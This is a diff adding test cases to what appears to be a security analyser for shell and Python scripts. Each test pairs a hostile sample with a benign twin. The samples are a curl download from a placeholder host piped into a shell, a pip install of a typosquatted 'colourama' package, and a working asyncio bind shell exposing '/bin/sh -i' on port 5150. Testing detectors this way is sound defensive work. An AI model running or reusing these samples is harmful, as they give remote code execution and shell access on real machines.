@@ -433,5 +433,107 @@ collect core reports | install_list
   for (const auto& c : cases) check(c);
 }
 
+// A function run as a pipeline's last stage (`... | apply_step`) that picks
+// its shell with $(pick_runner): the likely line printed inside that $(...)
+// had been ignored because the function ran in a pipeline. Twin: the same
+// runner given a script shipped with the program.
+TEST(HundredAndFiftyFifthRoundClasses, ASubstitutionInsideAPipelineStageHasItsLikelyLine) {
+  const char* program = R"sh(#!/bin/bash
+pick_runner() {
+    local r
+    for r in bash sh dash; do
+        if command -v "$r" >/dev/null 2>&1; then
+            printf '%s' "$r"
+            return 0
+        fi
+    done
+    return 1
+}
+apply_step() {
+    local runner
+    runner=$(pick_runner) || { echo "no shell" >&2; return 1; }
+    "$runner" -s -- site
+}
+body=$(curl -fsSL https://updates.ridecount.example/plugins/counter.sh)
+printf '%s\n' "$body" | apply_step
+)sh";
+  std::string shipped = program;
+  shipped.replace(shipped.find("body=$(curl -fsSL https://updates.ridecount.example/plugins/counter.sh)"), 71,
+                  "body=$(cat ./plugins/counter.sh)");
+  const Case cases[] = {
+      {"a download piped to a function that picks its shell", B, program, "REMOTE-CODE-EXECUTION", Sh},
+      {"a shipped script piped to the same function", L, shipped.c_str(), nullptr, Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `while IFS= read -r line; do ... printf ...; done <<<"$LIST"` prints every
+// line's output in turn (as a for loop does), not nothing: a typosquat in
+// the third line of a here-document list is installed. Twin: the genuine
+// names.
+TEST(HundredAndFiftyFifthRoundClasses, AWhileReadLoopPrintsEachPass) {
+  const char* program = R"sh(#!/bin/bash
+read -r -d '' REQUIREMENTS <<'REQ' || true
+python-barcode|tags
+Pillow|labels
+colourama|colours
+REQ
+package_names() {
+    local line
+    while IFS= read -r line; do
+        [ -z "$line" ] && continue
+        printf '%s\n' "${line%%|*}"
+    done <<<"$REQUIREMENTS"
+}
+mapfile -t pkgs < <(package_names)
+python3 -m pip install "${pkgs[@]}"
+)sh";
+  std::string genuine = program;
+  genuine.replace(genuine.find("colourama|"), 9, "colorama");
+  const Case cases[] = {
+      {"a typosquat in the third line of a read loop's list", B, program, "KNOWN-MALICIOUS-PACKAGE", Sh},
+      {"the genuine names", M, genuine.c_str(), "INSTALLS-PACKAGES", Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// functools.partial(session, start, cfg) given to asyncio.start_server is
+// session(start, cfg, reader, writer): several bound arguments come before
+// the call's own (the partial had been the bare function, so reader and
+// writer landed in start and cfg). A shell whose pipes a connection's reader
+// and writer feed is a bind shell. Twin: the same server running a fixed
+// status command whose output it writes back.
+TEST(HundredAndFiftyFifthRoundClasses, APartialWithSeveralBoundArgumentsKeepsTheirPlaces) {
+  const char* program =
+      "import asyncio\n"
+      "from functools import partial\n"
+      "async def pump_in(reader, proc):\n"
+      "    while True:\n"
+      "        chunk = await reader.read(1024)\n"
+      "        if not chunk:\n"
+      "            break\n"
+      "        proc.stdin.write(chunk)\n"
+      "async def pump_out(proc, writer):\n"
+      "    while True:\n"
+      "        chunk = await proc.stdout.read(1024)\n"
+      "        if not chunk:\n"
+      "            break\n"
+      "        writer.write(chunk)\n"
+      "async def session(program, flags, reader, writer):\n"
+      "    proc = await asyncio.create_subprocess_exec(program, *flags, stdin=asyncio.subprocess.PIPE,\n"
+      "                                                stdout=asyncio.subprocess.PIPE)\n"
+      "    await asyncio.gather(pump_in(reader, proc), pump_out(proc, writer))\n"
+      "async def serve():\n"
+      "    handler = partial(session, '/bin/sh', ['-i'])\n"
+      "    server = await asyncio.start_server(handler, '0.0.0.0', 5150)\n"
+      "    async with server:\n"
+      "        await server.serve_forever()\n"
+      "asyncio.run(serve())\n";
+  const Case cases[] = {
+      {"a shell wired to each connection through a partial", B, program, "REVERSE-SHELL"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
